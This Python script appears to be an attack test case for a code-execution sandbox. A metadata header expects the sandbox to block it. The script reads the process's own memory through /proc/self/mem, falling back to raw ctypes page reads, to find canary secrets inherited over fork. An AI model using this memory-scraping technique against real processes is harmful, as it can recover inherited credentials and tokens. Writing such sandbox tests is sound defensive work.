# /// attack
# category = "secrets"
# kind = "stdio"
# success = "canary:ENV"
# expected = ["wrong_answer", "sandbox_violation", "runtime_error", "time_limit_exceeded", "memory_limit_exceeded"]
# summary = "Scans its own address space for secrets inherited over fork."
# ///

import ctypes
import gc
import re

found = set()
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if not line.split()[1].startswith("r") or end - start > 1 << 28:
                continue
            try:
                memory.seek(start)
                found.update(re.findall(rb"CANARY-[A-Z]+-[\w-]+", memory.read(end - start)))
            except (OSError, OverflowError, ValueError):
                continue
except OSError:
    for page in sorted({id(item) & ~4095 for item in gc.get_objects()}):
        found.update(re.findall(rb"CANARY-[A-Z]+-[\w-]+", ctypes.string_at(page, 4096)))
print(found)
